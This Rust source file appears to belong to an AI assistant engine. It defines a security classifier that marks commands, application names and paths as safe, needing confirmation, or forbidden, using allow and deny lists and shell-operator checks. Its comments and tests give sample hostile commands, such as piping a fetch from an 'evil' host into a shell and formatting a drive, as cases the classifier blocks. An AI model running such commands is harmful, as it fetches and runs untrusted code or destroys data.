//! Security classification for commands and filesystem paths
//!
//! Every command a skill is asked to run, and every path it is asked to
//! touch, gets one of three verdicts:
//!
//! - **Forbidden**: never executed, not even after approval
//! - **Safe**: executes without confirmation
//! - **Critical**: the default, requires confirmation
//!
//! # Commands
//!
//! 1. Deny-list first: a case-insensitive substring match anywhere in the
//!    command is `Forbidden`.
//! 2. Allow-list: a case-insensitive prefix match that ends on a token
//!    boundary, or a first-token match for single-word entries, is `Safe`.
//!    Commands that chain or redirect (`;`, `&&`, `|`, `>`, `$(`, ...) are
//!    never `Safe`, so `ls; curl evil | sh` still asks first. Neither are
//!    wrappers such as `time` or `env` followed by another command.
//! 3. Everything else is `Critical`.
//!
//! # Applications
//!
//! An application name is `Forbidden` on a deny-list hit, `Safe` only when
//! it is a bare name on the application allow-list, and `Critical`
//! otherwise. Names carrying a path separator or shell metacharacter are
//! never `Safe`.
//!
//! # Paths
//!
//! Paths are normalized lexically (no filesystem access, no symlink
//! resolution). A path under a forbidden directory is `Forbidden` even if it
//! is also under an allowed one. A path under an allowed directory is
//! `Safe`. Everything else is `Critical`.
//!
//! The classifier is pure and cheap to clone; the terminal skill consults it
//! before reporting `needs_confirmation`, and the command executor consults
//! it again right before spawning.

use crate::config::SecurityConfig;
use serde::{Deserialize, Serialize};
use std::path::{Component, Path, PathBuf};

/// Classification result
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "SCREAMING_SNAKE_CASE")]
pub enum Verdict {
    /// Allowed without confirmation
    Safe,
    /// Allowed only after confirmation
    Critical,
    /// Never allowed
    Forbidden,
}

impl Verdict {
    pub fn is_forbidden(self) -> bool {
        matches!(self, Verdict::Forbidden)
    }

    pub fn is_safe(self) -> bool {
        matches!(self, Verdict::Safe)
    }
}

impl std::fmt::Display for Verdict {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Verdict::Safe => write!(f, "SAFE"),
            Verdict::Critical => write!(f, "CRITICAL"),
            Verdict::Forbidden => write!(f, "FORBIDDEN"),
        }
    }
}

/// Shell operators that chain, substitute or redirect. `^` is the `cmd`
/// escape character and `&` its command separator.
const CONTROL_OPERATORS: &[&str] = &["&", "|", ";", "`", "$(", ">", "<", "^", "\n", "\r"];

/// Commands that run their arguments as another command
const WRAPPER_COMMANDS: &[&str] = &[
    "time", "env", "nohup", "xargs", "sudo", "exec", "nice", "timeout", "watch", "command",
    "eval", "cmd", "start",
];

/// Allow/deny-list classifier
///
/// # Examples
///
/// ```
/// use jarvis_engine::config::SecurityConfig;
/// use jarvis_engine::security_classifier::{SecurityClassifier, Verdict};
///
/// let classifier = SecurityClassifier::new(&SecurityConfig::default());
///
/// assert_eq!(classifier.classify_command("ls -la"), Verdict::Safe);
/// assert_eq!(classifier.classify_command("format C:"), Verdict::Forbidden);
/// assert_eq!(classifier.classify_command("git push"), Verdict::Critical);
/// ```
#[derive(Debug, Clone)]
pub struct SecurityClassifier {
    forbidden_commands: Vec<String>,
    safe_commands: Vec<String>,
    allowed_directories: Vec<PathBuf>,
    forbidden_directories: Vec<PathBuf>,
    safe_apps: Vec<String>,
}

/// Characters that make an application name more than a bare name
const APP_NAME_METACHARACTERS: &[char] = &[
    '/', '\\', '&', '|', ';', '^', '<', '>', '%', '`', '$', '(', ')', '"', '\'', '\n', '\r',
];

impl SecurityClassifier {
    /// Build a classifier from the security section of the configuration
    pub fn new(config: &SecurityConfig) -> Self {
        Self::from_lists(
            config.forbidden_commands.clone(),
            config.safe_commands.clone(),
            config.allowed_directories.clone(),
            config.forbidden_directories.clone(),
        )
        .with_safe_apps(config.safe_apps.clone())
    }

    /// Build a classifier from explicit lists
    pub fn from_lists(
        forbidden_commands: Vec<String>,
        safe_commands: Vec<String>,
        allowed_directories: Vec<PathBuf>,
        forbidden_directories: Vec<PathBuf>,
    ) -> Self {
        let lowered = |list: Vec<String>| {
            list.into_iter()
                .map(|entry| entry.trim().to_lowercase())
                .filter(|entry| !entry.is_empty())
                .collect::<Vec<_>>()
        };

        Self {
            forbidden_commands: lowered(forbidden_commands),
            safe_commands: lowered(safe_commands),
            allowed_directories: allowed_directories.iter().map(|p| normalize(p)).collect(),
            forbidden_directories: forbidden_directories.iter().map(|p| normalize(p)).collect(),
            safe_apps: Vec::new(),
        }
    }

    /// Set the applications that launch without confirmation
    pub fn with_safe_apps(mut self, apps: Vec<String>) -> Self {
        self.safe_apps = apps
            .into_iter()
            .map(|app| app.trim().to_lowercase())
            .filter(|app| !app.is_empty())
            .collect();
        self
    }

    /// Classify an application name for launching
    pub fn classify_application(&self, name: &str) -> Verdict {
        if self.forbidden_match(name).is_some() {
            return Verdict::Forbidden;
        }

        let lowered = name.trim().to_lowercase();
        if lowered.is_empty() || lowered.contains(APP_NAME_METACHARACTERS) {
            return Verdict::Critical;
        }

        if self.safe_apps.iter().any(|app| *app == lowered) {
            Verdict::Safe
        } else {
            Verdict::Critical
        }
    }

    /// Classify a shell command string
    pub fn classify_command(&self, command: &str) -> Verdict {
        if self.forbidden_match(command).is_some() {
            return Verdict::Forbidden;
        }

        if self.is_allow_listed(command) {
            return Verdict::Safe;
        }

        Verdict::Critical
    }

    /// Deny-list entry contained in `command`, if any
    pub fn forbidden_match(&self, command: &str) -> Option<&str> {
        let lowered = command.to_lowercase();
        self.forbidden_commands
            .iter()
            .find(|entry| lowered.contains(entry.as_str()))
            .map(String::as_str)
    }

    fn is_allow_listed(&self, command: &str) -> bool {
        let lowered = command.trim().to_lowercase();
        if lowered.is_empty() {
            return false;
        }

        if CONTROL_OPERATORS.iter().any(|op| lowered.contains(op)) {
            return false;
        }

        let mut tokens = lowered.split_whitespace();
        let first_token = tokens.next().unwrap_or_default();

        // A wrapper with arguments runs whatever follows it
        if WRAPPER_COMMANDS.contains(&first_token) && tokens.next().is_some() {
            return false;
        }

        self.safe_commands.iter().any(|entry| {
            let prefix_match = lowered
                .strip_prefix(entry.as_str())
                .is_some_and(|rest| rest.is_empty() || rest.starts_with(char::is_whitespace));

            let single_word = !entry.contains(char::is_whitespace);

            prefix_match || (single_word && first_token == entry)
        })
    }

    /// Classify a filesystem path
    ///
    /// Relative paths are classified as given; callers resolve them against
    /// the working directory first.
    pub fn classify_path(&self, path: &Path) -> Verdict {
        let normalized = normalize(path);

        if self.is_forbidden_path(&normalized) {
            return Verdict::Forbidden;
        }

        if self
            .allowed_directories
            .iter()
            .any(|dir| is_under(&normalized, dir))
        {
            return Verdict::Safe;
        }

        Verdict::Critical
    }

    /// Whether `path` lies in a forbidden directory
    pub fn is_forbidden_path(&self, path: &Path) -> bool {
        let normalized = normalize(path);
        self.forbidden_directories
            .iter()
            .any(|dir| is_under(&normalized, dir))
    }

    /// Whether an application name (or a command line) hits the deny-list
    pub fn is_forbidden_command(&self, command: &str) -> bool {
        self.forbidden_match(command).is_some()
    }
}

/// Lexically normalize a path: drop `.` and resolve `..` against the
/// preceding component.
pub fn normalize(path: &Path) -> PathBuf {
    let mut out = PathBuf::new();
    for component in path.components() {
        match component {
            Component::CurDir => {}
            Component::ParentDir => {
                let leading = out.as_os_str().is_empty()
                    || matches!(out.components().next_back(), Some(Component::ParentDir));
                if leading && !out.has_root() {
                    out.push("..");
                } else {
                    // `..` above the root stays at the root
                    out.pop();
                }
            }
            other => out.push(other.as_os_str()),
        }
    }
    out
}

#[cfg(windows)]
fn is_under(path: &Path, dir: &Path) -> bool {
    let path = path.to_string_lossy().to_lowercase();
    let dir = dir.to_string_lossy().to_lowercase();
    Path::new(&path).starts_with(Path::new(&dir))
}

#[cfg(not(windows))]
fn is_under(path: &Path, dir: &Path) -> bool {
    path.starts_with(dir)
}
